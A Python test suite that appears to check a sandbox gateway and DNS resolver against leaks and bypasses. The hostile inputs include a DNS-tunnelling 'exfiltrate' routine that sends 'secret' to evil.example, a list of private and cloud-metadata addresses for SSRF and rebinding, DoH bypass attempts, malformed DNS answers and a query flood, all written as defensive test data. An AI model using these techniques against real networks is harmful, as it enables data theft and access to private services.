"""The resolver as a way out, and as a way to be led astray (threats D*, N9 by name).

The world's name server notes every question, and the recorder every packet: that no name leaves before a verdict is seen there.

Open: D2 asks for limits on the length, entropy and rate of names below an allowed wildcard; rules cannot count yet, so that a zone
of the attacker's that a wildcard allows can be told things by the names that are asked for in allowed requests.
"""
import socket
import struct
import time
import unittest

from lab.attacker import HostService, Witness, enter, settle, statuses
from lab.origins import Scripted
from lab.world import GATEWAY, HOST_ADDRESS, RESOLVER, World

POLICY = """
rules:
  - allow: [good.example, "*.zone.example", http://plain.example/**, tls://pass.example, rebind.example, moving.example]
  - allow: ["*.private.example", "http://*.plain-private.example/**", "tls://*.pass-private.example", "tcp://*.raw-private.example:7"]
  - allow: ["tcp://raw.example:7", "tcp://*.raw.example:7"]
"""
# What an attacker's zone might answer with, to get at what only the host should reach.
PRIVATE = ["127.0.0.1", "127.8.9.10", "0.0.0.0", "0.1.2.3", "10.0.0.5", "172.16.0.1", "172.31.255.255", "192.168.1.1", "169.254.169.254",
           "169.254.1.1", "169.254.170.2", "100.64.0.1", "100.100.100.200", "168.63.129.16", "192.0.0.192", "192.0.2.2", "198.18.0.1",
           "198.19.255.255", "198.51.100.7", "203.0.113.7", "192.88.99.1", "224.0.0.1", "239.255.255.255", "240.0.0.1", "255.255.255.255",
           "::1", "::", "::127.0.0.1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::ffff:10.0.0.5", "::ffff:0:127.0.0.1", "fe80::1", "fec0::1",
           "fc00::1", "fd00:ec2::254", "fd12:3456::1", "64:ff9b::127.0.0.1", "64:ff9b::a9fe:a9fe", "64:ff9b::10.0.0.5", "64:ff9b:1::10.0.0.5",
           "64:ff9b:1:a9fe:a9:fe00::", "2002:7f00:1::1", "2002:a9fe:a9fe::1", "2002:c0a8:101::1", "2001:0:a9fe:a9fe::1",
           "2001:0:4136:e378:8000:63bf:f5ff:fffa", "2001:db8::2", "ff02::1", "ff0e::1", "100::1", "2001:10::1", "3fff::1", "5f00::1", "4000::1",
           "fd73:616c:6c79::1"]


def setUpModule():
    global world, origin, raw, evil, box, inside, host_service
    world = World()
    names = ["good.example", "plain.example", "pass.example", "rebind.example", "moving.example"]
    origin = Witness(world, *names, "*.zone.example", "*.private.example")
    raw = Scripted(world, "raw.example", lambda connection: connection.sendall(b"220 raw.example\r\n"), tls=False, port=7)
    evil = Scripted(world, "evil.example", lambda connection: connection.recv(), tls=False, port=443)
    host_service = HostService()
    for i, address in enumerate(PRIVATE):
        for zone in ("private", "plain-private", "pass-private", "raw-private"):
            world.name(f"p{i}.{zone}.example", address)
    box, inside = enter(world, POLICY)


def tearDownModule():
    inside.close()
    faults = inside.faults()
    for thing in (origin, raw, evil, world):
        thing.close()
    assert not faults, faults


def get(host, to=None, path="/", port=443):
    try:
        stream = secure(host, port, to=to)
    except OSError as error:
        return f"{type(error).__name__}".encode()
    with stream:
        stream.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return receive(stream)[0]


def get_plain(host, to=None, port=80):
    with connect(to or host, port) as stream:
        stream.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return receive(stream)[0]


def hear(host):
    """What a server says that speaks first, and how the connection ends."""
    try:
        with connect(host, 7) as stream:
            return receive(stream)
    except ConnectionResetError:  # so soon that we were not yet told of the connection
        return b"", "reset"


def get_all(function, hosts):
    names = {"get": get, "get_plain": get_plain, "hear": hear, "greet": lambda host: greet(host, records(client_hello(name=host.encode())))}
    return in_parallel(names[function], [(host,) for host in hosts])


class Dns(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        # The functions that others are made of are known inside.
        for function in (get, get_plain, hear):
            inside.teach(function)

    def setUp(self):
        self.mark, self.asked = world.recorder.mark(), len(world.names.questions)

    def questions(self):
        return world.names.questions[self.asked:]

    def nothing_left(self):
        self.assertEqual((world.recorder.since(self.mark), self.questions()), ([], []))

    def test_D1_D6_D9_questions_are_answered_here_whomever_they_are_put_to(self):
        def exfiltrate():
            found = []
            for server, family in (("198.18.0.1", socket.AF_INET), ("8.8.8.8", socket.AF_INET), ("1.1.1.1", socket.AF_INET), ("8.8.4.4", socket.AF_INET),
                                   ("127.0.0.1", socket.AF_INET), ("192.0.2.1", socket.AF_INET), ("2001:4860:4860::8888", socket.AF_INET6), ("fd73:616c:6c79::1", socket.AF_INET6)):
                for tcp in (False, True):
                    name = f"c2VjcmV0.{len(found)}.evil.example"
                    found.append((server, tcp, addresses(ask(name, server=server, tcp=tcp, family=family))))
            return found
        for server, tcp, got in inside.do(exfiltrate):
            self.assertEqual([a.split(".")[0] for a in got], ["198"], (server, tcp))
        self.nothing_left()
        self.assertGreaterEqual(len([r for r in settle(box, kind="dns") if r["dns"]["name"].endswith(".evil.example")]), 16)

    def test_D2_a_name_below_an_allowed_wildcard_is_asked_for_by_a_request_only(self):
        def look():
            names = [f"data{i}.zone.example" for i in range(20)]
            return [addresses(ask(name)) for name in names] and [
                greet(name, records(client_hello(name=name.encode())))[0] for name in names]
        self.assertEqual(set(inside.do(look)), {"certificate"})
        self.nothing_left()
        world.name("asked.zone.example", origin.address)
        self.assertEqual(statuses(inside.do(get, "asked.zone.example")), [200])
        self.assertEqual({name for name, _ in self.questions()}, {"asked.zone.example"})

    def test_D3_D4_N9_an_allowed_name_that_leads_to_a_private_address_is_not_dialled(self):
        for zone, function in (("private", "get"), ("plain-private", "get_plain"), ("pass-private", "greet"), ("raw-private", "hear")):
            hosts = [f"p{i}.{zone}.example" for i in range(len(PRIVATE))]
            for address, host, answer in zip(PRIVATE, hosts, inside.do(get_all, function, hosts)):
                with self.subTest(address=address, zone=zone):
                    if function in ("greet", "hear"):
                        self.assertIn(answer[0] if function == "greet" else answer[1], ("reset", "eof"))
                        kind = "tls" if function == "greet" else "tcp"
                        verdicts = {(r["verdict"], "may not be dialled" in r["reason"]) for r in settle(box, kind=kind, host=host)}
                        self.assertEqual(verdicts, {("deny", True)})
                    else:
                        self.assertEqual(statuses(answer), [403])
                        self.assertIn(b"may not be dialled", answer)
        self.assertEqual({target for target in world.recorder.since(self.mark) if target[1] != RESOLVER}, set())
        self.assertEqual(host_service.reached, [])

    def test_N8_an_allowed_name_that_leads_to_the_hosts_own_public_address_is_not_dialled(self):
        """A service which the host has on a public address of its own."""
        from lab.namespaces import ip
        ip("addr", "add", "93.184.9.9/32", "dev", "lo")
        world.name("self.zone.example", "93.184.9.9")
        answer = inside.do(get, "self.zone.example")
        reached, host_service.reached = host_service.reached, []
        self.assertEqual(reached, [])
        self.assertEqual(statuses(answer), [403])

    def test_D3_rebinding_after_the_first_answer(self):
        answers = [origin.address, "127.0.0.1"]

        def rebind(name, kind):
            if kind != 1:
                return []
            return [answers.pop(0) if len(answers) > 1 else answers[0]]
        world.names.records["rebind.example"], world.names.ttls["rebind.example"] = rebind, 0
        origin.answers["rebind.example"] = close_after_one
        self.assertEqual(statuses(inside.do(get, "rebind.example")), [200])
        time.sleep(1.2)
        self.assertEqual(statuses(inside.do(get, "rebind.example")), [403])
        self.assertEqual(host_service.reached, [])

    def test_D4_of_mixed_answers_only_what_passes_is_dialled(self):
        cases = [["10.0.0.5", origin.address, "127.0.0.1"], ["127.0.0.1", "::1", origin.address], [*["192.168.0.%d" % i for i in range(1, 17)], origin.address],
                 ["::ffff:10.0.0.5", origin.address, "64:ff9b::a9fe:a9fe"]]
        for i, addresses in enumerate(cases):
            host = f"mixed{i}.zone.example"
            world.names.records[host] = addresses
            answer = inside.do(get, host)
            dialled = {address for _, address, _ in world.recorder.since(self.mark, ignore=(RESOLVER,))}
            self.assertLessEqual(dialled, {origin.address}, addresses)
            self.assertEqual(statuses(answer), [403] if i == 2 else [200], addresses)  # of a family 16 are looked at
            self.assertEqual({r.get("ip") for r in settle(box, kind="http", host=host)}, {None if i == 2 else origin.address})
        mark = world.recorder.mark()
        for i, addresses in enumerate(cases):
            host = f"mixed{i}.raw.example"
            world.names.records[host] = [raw.address if a == origin.address else a for a in addresses]
            self.assertEqual(inside.do(hear, host), (b"", "reset") if i == 2 else (b"220 raw.example\r\n", "eof"), addresses)
        self.assertEqual({address for _, address, _ in world.recorder.since(mark, ignore=(RESOLVER,))}, {raw.address})

    def test_D5_the_address_that_the_program_dials_is_never_believed(self):
        for function, host in ((get, "good.example"), (get_plain, "plain.example")):
            answer = inside.do(function, host, evil.address)
            self.assertIn(statuses(answer)[0], (200, 502), answer)
        self.assertEqual(inside.do(greet_at, "pass.example", evil.address)[0], "certificate")
        # A connection that is not looked into has no name but the one whose address was asked for.
        self.assertEqual(inside.do(hear, "raw.example"), (b"220 raw.example\r\n", "eof"))
        for address in (evil.address, raw.address, "198.19.200.200"):
            self.assertEqual(inside.do(hear, address), (b"", "reset"))
        self.assertEqual([r["ip"] for r in settle(box, kind="tcp", host="raw.example")], [raw.address])
        # Nor is the address of another name, nor one that no name has.
        self.assertEqual(statuses(inside.do(get_with_address_of, "evil.example", "good.example")), [421])
        self.assertEqual(statuses(inside.do(get, "good.example", "198.19.200.200")), [200])
        self.assertEqual(evil.accepted, 0)
        self.assertNotIn(evil.address, [address for _, address, _ in world.recorder.since(self.mark)])
        for record in settle(box, kind="http", host="good.example"):
            self.assertIn(record.get("ip"), (None, origin.address))

    def test_D6_no_other_way_to_resolve(self):
        def try_ways():
            found = {}
            for name, host, port, family in (("mdns", "224.0.0.251", 5353, socket.AF_INET), ("llmnr", "224.0.0.252", 5355, socket.AF_INET), ("ntp", "93.184.0.77", 123, socket.AF_INET),
                                             ("doq", "8.8.8.8", 853, socket.AF_INET), ("quic", "8.8.8.8", 443, socket.AF_INET), ("mdns6", "ff02::fb", 5353, socket.AF_INET6), ("netbios", "93.184.0.77", 137, socket.AF_INET)):
                stream = socket.socket(family, socket.SOCK_DGRAM)
                found[name] = errno_name(stream.sendto, question("x.evil.example"), (host, port))
            for name, port in (("dot", 853), ("alt", 5353)):
                stream = connect("8.8.8.8", port)
                made = errno_name(stream.sendall, client_hello(name=b"dns.google") and records(client_hello(name=b"dns.google"))[0])
                found[name] = classify(*receive(stream, 15, 0.3))[0]
            return found
        found = inside.do(try_ways)
        # DNS over TLS is refused at once, so that the client falls back.
        self.assertEqual((found.pop("dot"), found.pop("alt")), ("alert", "certificate"))
        self.assertEqual(set(found.values()), {"EPERM"}, found)
        for host, address in (("dns.google", "8.8.8.8"), ("cloudflare-dns.com", "1.1.1.1"), ("doh.opendns.com", "146.112.41.2")):
            self.assertEqual(statuses(inside.do(get, host, address, "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB")), [403], host)
        self.nothing_left()
        refused = {(r["packet"]["destination"], r["packet"]["destination_port"]) for r in settle(box, kind="packet") if r.get("packet", {}).get("destination")}
        self.assertLessEqual({("224.0.0.251", 5353), ("224.0.0.252", 5355), ("8.8.8.8", 853), ("8.8.8.8", 443), ("ff02::fb", 5353), ("93.184.0.77", 123)}, refused)

    def test_D7_rare_types_classes_and_opcodes_get_nothing(self):
        def ask_rare():
            kinds = {kind: rcode(ask("x.good.example", kind)) for kind in (2, 5, 6, 10, 15, 16, 33, 35, 43, 46, 48, 52, 99, 249, 250, 251, 252, 253, 254, 255, 256, 257, 32768, 65280, 0)}
            over_tcp = {kind: rcode(ask("good.example", kind, tcp=True)) for kind in (16, 251, 252, 255)}
            empty = {kind: (rcode(ask("good.example", kind)), ask("good.example", kind)[6:8]) for kind in (64, 65)}
            plain = question("good.example")
            odd = {"chaos": rcode(ask("", raw=question("version.bind", 16, 3))), "any class": rcode(ask("", raw=question("good.example", 1, 255))),
                   "update": rcode(ask("", raw=plain[:2] + b"\x28\x00" + plain[4:])), "notify": rcode(ask("", raw=plain[:2] + b"\x20\x00" + plain[4:])),
                   "status": rcode(ask("", raw=plain[:2] + b"\x10\x00" + plain[4:])), "two": rcode(ask("", raw=plain[:4] + b"\0\2" + plain[6:] + plain[12:])),
                   "none": rcode(ask("", raw=plain[:4] + b"\0\0" + plain[6:12])), "rest": rcode(ask("", raw=plain + b"data")),
                   "pointer": rcode(ask("", raw=plain[:12] + b"\xc0\x0c\0\1\0\1")), "long": rcode(ask("", raw=question(b"\x3f" + b"a" * 63 + (b"\x3f" + b"b" * 63) * 3 + b"\0"))),
                   "label 64": rcode(ask("", raw=question(b"\x40" + b"a" * 64 + b"\0"))), "answers": rcode(ask("", raw=plain[:6] + b"\0\1" + plain[8:])),
                   "response": ask("", raw=plain[:2] + b"\x81\x80" + plain[4:], timeout=0.5), "short": ask("", raw=plain[:7], timeout=0.5)}
            return kinds, over_tcp, empty, odd
        kinds, over_tcp, empty, odd = inside.do(ask_rare)
        self.assertEqual(set(kinds.values()) | set(over_tcp.values()), {5}, kinds)
        self.assertEqual(set(empty.values()), {(0, b"\0\0")})
        self.assertEqual((odd.pop("response"), odd.pop("short")), (b"", b""))
        self.assertEqual([odd.pop(x) for x in ("chaos", "any class")], [5, 5])
        self.assertEqual([odd.pop(x) for x in ("update", "notify", "status")], [4, 4, 4])
        self.assertEqual(set(odd.values()), {1}, odd)
        self.nothing_left()

    def test_D7_odd_names_and_0x20_stay_here(self):
        def spell():
            raw = ask("", raw=question(b"\4gOoD\7ExAmPlE\0"))
            return raw[12:26], addresses(raw) == addresses(ask("good.example")), [
                rcode(ask("", raw=question(name))) for name in (b"\x07good.ex\5ample\0", b"\4go\x00d\7example\0", b"\1*\7example\0", b"\5_dmar\7example\0", b"\4\xff\xfe\xfd\xfc\7example\0", b"\0")]
        question_back, same, odd = inside.do(spell)
        self.assertEqual((question_back, same, set(odd)), (b"\4gOoD\7ExAmPlE\0", True, {3}))
        self.nothing_left()

    def test_D8_a_resolver_is_not_allowed_by_being_one(self):
        for server in (RESOLVER, "8.8.8.8", "1.1.1.1", GATEWAY, HOST_ADDRESS):
            self.assertEqual(statuses(inside.do(get_plain, server, server)), [403], server)
            self.assertEqual(statuses(inside.do(get_by_address, server)), [403], server)
        self.nothing_left()

    def test_D9_a_denied_request_asks_for_no_name(self):
        for host in ("evil.example", "secret-data.evil.example", "zone.example", "notgood.example"):
            self.assertEqual(statuses(inside.do(get, host)), [403], host)
            self.assertEqual(statuses(inside.do(get_plain, host)), [403], host)
        self.assertEqual(statuses(inside.do(get_plain, "good.example")), [403])
        self.nothing_left()

    def test_D10_a_short_TTL_is_kept_a_second_and_a_new_address_is_then_used(self):
        where = [origin.address]
        second = Witness(world, "moving.example")
        world.names.records["moving.example"] = lambda name, kind: where if kind == 1 else []
        world.names.ttls["moving.example"] = 0
        origin.answers["moving.example"] = second.answers["moving.example"] = close_after_one
        self.assertEqual(statuses(inside.do(get, "moving.example")), [200])
        where[0] = second.address
        time.sleep(1.2)
        self.assertEqual(statuses(inside.do(get, "moving.example")), [200])
        self.assertEqual((origin.count("moving.example"), second.count("moving.example")), (1, 1))
        self.assertEqual([r["ip"] for r in settle(box, lambda found: len(found) > 1, kind="http", host="moving.example", verdict="allow")], [origin.address, second.address])
        second.close()

    def test_hostile_answers_of_a_name_server(self):
        def answer(query, *records, flags=0x8180, counts=None):
            end = query.index(b"\0", 12) + 5
            return query[:2] + struct.pack("!HHHHH", flags, 1, counts if counts is not None else len(records), 0, 0) + query[12:end] + b"".join(records)

        def record(name, kind, data, ttl=60):
            return name + struct.pack("!HHIH", kind, 1, ttl, len(data)) + data
        here, evil_name, private = b"\xc0\x0c", b"\4evil\7example\0", b"\x7f\0\0\1"
        good = socket.inet_aton(origin.address)
        cases = {"loop": lambda q: answer(q, record(b"\xc0\x1d", 5, b"\xc0\x1d")), "count": lambda q: answer(q, record(here, 1, good), counts=65535),
                 "cut": lambda q: answer(q, record(here, 1, good))[:-2], "short": lambda q: q[:11], "empty": lambda q: b"\0", "length": lambda q: answer(q, record(here, 1, good + b"x")),
                 "cname chain": lambda q: answer(q, *[record(b"\1%c\0" % (97 + i), 5, b"\1%c\0" % (98 + i)) for i in range(20)]), "other id": lambda q: b"\xff\xff" + answer(q, record(here, 1, good))[2:],
                 "query back": lambda q: q, "other question": lambda q: answer(q, record(here, 1, good)).replace(b"\4zone", b"\4xone"), "refused": lambda q: answer(q, flags=0x8185),
                 "truncated": lambda q: answer(q, flags=0x8380)}
        hosts = [f"odd{i}.zone.example" for i in range(len(cases))]
        world.names.raw.update(zip(hosts, cases.values()))
        started = time.monotonic()
        for name, found in zip(cases, inside.do(get_all, "get", hosts)):
            wanted = {"length": ([200], [502]), "count": ([200], [502])}.get(name, ([502], [504]))
            self.assertIn(statuses(found), wanted, f"{name}: {found[:300]}")
        self.assertLess(time.monotonic() - started, 18)
        world.names.raw["alias.zone.example"] = lambda q: answer(q, record(here, 5, evil_name), record(evil_name, 1, private))
        self.assertEqual(statuses(inside.do(get, "alias.zone.example")), [403])
        self.assertNotIn("127.0.0.1", [address for _, address, _ in world.recorder.since(self.mark)])
        self.assertEqual(host_service.reached, [])
        self.assertEqual(statuses(inside.do(get, "good.example")), [200])

    def test_a_flood_of_questions_is_answered_and_bounded(self):
        def flood():
            stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            stream.settimeout(1)
            for i in range(20000):
                stream.sendto(question(f"n{i}.flood.example"), ("198.18.0.1", 53))
            connections = [socket.create_connection(("198.18.0.1", 53), 5) for _ in range(200)]
            for connection in connections:
                try:
                    connection.sendall(b"\xff\xff" + b"\0" * 100)
                except OSError:
                    pass
            return addresses(ask("good.example")), addresses(ask("good.example", tcp=True))
        udp, tcp = inside.do(flood)
        self.assertTrue(udp and tcp)
        self.assertEqual(statuses(inside.do(get, "good.example")), [200])
        self.assertEqual({name for name, _ in self.questions()} - {"good.example"}, set())


def close_after_one(connection):
    connection.read_head()
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")


def greet_at(host, address):
    with connect(address, 443) as stream:
        send_pieces(stream, records(client_hello(name=host.encode())))
        return classify(*receive(stream, 15, 0.4))


def get_with_address_of(other, host):
    return get(host, addresses(ask(other))[0])


def get_by_address(address):
    with context(verify=False).wrap_socket(connect(address, 443)) as stream:
        stream.sendall(f"GET / HTTP/1.1\r\nHost: {address}\r\n\r\n".encode())
        return receive(stream)[0]


if __name__ == "__main__":
    unittest.main(verbosity=2)
